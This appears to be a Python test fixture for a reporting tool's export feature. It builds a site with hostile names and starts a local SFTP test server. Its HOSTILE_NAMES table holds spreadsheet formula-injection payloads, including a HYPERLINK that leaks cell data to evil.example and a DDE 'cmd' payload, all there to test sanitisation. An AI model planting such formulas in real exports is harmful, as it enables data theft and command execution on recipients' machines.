"""What the export tests run on: the hand site (its names made hostile) built and published, and
a real SFTP server (asyncssh) on 127.0.0.1 with its own host key and one password user.

    with SftpServer(tmp_path / "sftp") as server:
        target = server.target()            # host key pinned, password login
        (server.root / "drop" / "x.csv").read_bytes()
"""

from __future__ import annotations

import asyncio
import threading
from pathlib import Path
from typing import Any, Self

import asyncssh
import yaml

from tests.dbt.hand_lake import write_hand_lake
from tests.dbt.homes import HAND_SITE_FILE

# every way a text cell can start a spreadsheet formula, in the site's own names
HOSTILE_NAMES = {
    "dam": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "plant": "+1+cmd|' /C calc'!A0",
    "river": "-2+3",
    "borefield": "@SUM(1,1)",
    "rain": "\tTAB first",
    "creek": "\rCR first",
}
HOSTILE_SITE_NAME = "=1+1 Hand site"
SFTP_USER = "exporter"
SFTP_PASSWORD = "sftp-secret-pw-123"


def build_hostile_hand_home(home: Path) -> None:
    """The hand site with hostile site and node names, its readings, dbt models built and the
    marts published (~35 s)."""
    from ingestion.site_tables import write_site_tables
    from siteledger.settings import get_settings
    from siteledger.site import load_site
    from siteledger.state import StateStore
    from siteledger.warehouse import Warehouse
    from tests.dbt.runner import run_dbt

    settings = get_settings(home)
    settings.ensure_dirs()
    doc = yaml.safe_load(HAND_SITE_FILE.read_text(encoding="utf-8"))
    doc["site"]["name"] = HOSTILE_SITE_NAME
    for node in doc["nodes"]:
        if node["id"] in HOSTILE_NAMES:
            node["name"] = HOSTILE_NAMES[node["id"]]
    site_file = settings.sites_dir / "hand_site.yaml"
    site_file.write_text(yaml.safe_dump(doc, sort_keys=False), encoding="utf-8")
    write_site_tables(settings, load_site(site_file))
    write_hand_lake(settings.lake)
    run_dbt(home, "run")
    store = StateStore(settings.state_store_url)
    Warehouse(settings, store).publish(["marts"], note="tests/reports exports")
    store.dispose()


class _Server(asyncssh.SSHServer):
    def begin_auth(self, username: str) -> bool:
        return True

    def password_auth_supported(self) -> bool:
        return True

    def validate_password(self, username: str, password: str) -> bool:
        return username == SFTP_USER and password == SFTP_PASSWORD


class SftpServer:
    """An SFTP server on 127.0.0.1 in a thread of this process, serving ``root`` (chrooted)."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.root.mkdir(parents=True, exist_ok=True)
        self.host_key = asyncssh.generate_private_key("ssh-ed25519")
        self.port = 0
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
        self._acceptor: Any = None

    @property
    def public_key(self) -> str:
        return self.host_key.export_public_key().decode().strip()

    def target(self, **fields: Any) -> Any:
        from reports.exports.sftp import SftpTarget

        values: dict[str, Any] = {
            "host": "127.0.0.1",
            "port": self.port,
            "user": SFTP_USER,
            "password": SFTP_PASSWORD,
            "host_key": self.public_key,
            "timeout": 5.0,
        }
        return SftpTarget(**(values | fields))

    async def _start(self) -> None:
        root = str(self.root)
        self._acceptor = await asyncssh.listen(
            "127.0.0.1",
            0,
            server_host_keys=[self.host_key],
            server_factory=_Server,
            sftp_factory=lambda chan: asyncssh.SFTPServer(chan, chroot=root),
            allow_scp=False,
        )
        self.port = self._acceptor.get_port()

    async def _stop(self) -> None:
        self._acceptor.close()
        await self._acceptor.wait_closed()

    def start(self) -> Self:
        self._thread.start()
        asyncio.run_coroutine_threadsafe(self._start(), self._loop).result(10)
        return self

    def stop(self) -> None:
        asyncio.run_coroutine_threadsafe(self._stop(), self._loop).result(10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(5)

    def __enter__(self) -> Self:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()


def tiny_warehouse(db: Path, version_id: str = "v-tiny") -> Path:
    """A published warehouse of two small marts, as :meth:`Warehouse.publish` lays one out
    (tables in ``main``, the version in ``_siteledger_publish``), without a dbt build."""
    import duckdb

    db.parent.mkdir(parents=True, exist_ok=True)
    with duckdb.connect(str(db)) as con:
        con.execute(
            "create table fct_node_balance_daily (site_id varchar, node_id varchar, day date, "
            "inflow_m3 double, outflow_m3 double)"
        )
        con.execute(
            "insert into fct_node_balance_daily values "
            "('s1', 'dam', '2025-07-01', 10.5, 9.25), ('s1', 'dam', '2025-07-02', 11.0, 8.0), "
            "('s1', 'pit', '2025-07-01', 1.0, null), ('s2', 'dam', '2025-07-01', 7.0, 7.0)"
        )
        con.execute("create table dim_sites (site_id varchar, site_name varchar)")
        con.execute("insert into dim_sites values ('s1', 'One'), ('s2', 'Two')")
        con.execute(
            "create table _siteledger_publish as select ? as version_id, "
            "cast('2026-01-02 03:04:05+00' as timestamptz) as published_at",
            [version_id],
        )
    return db
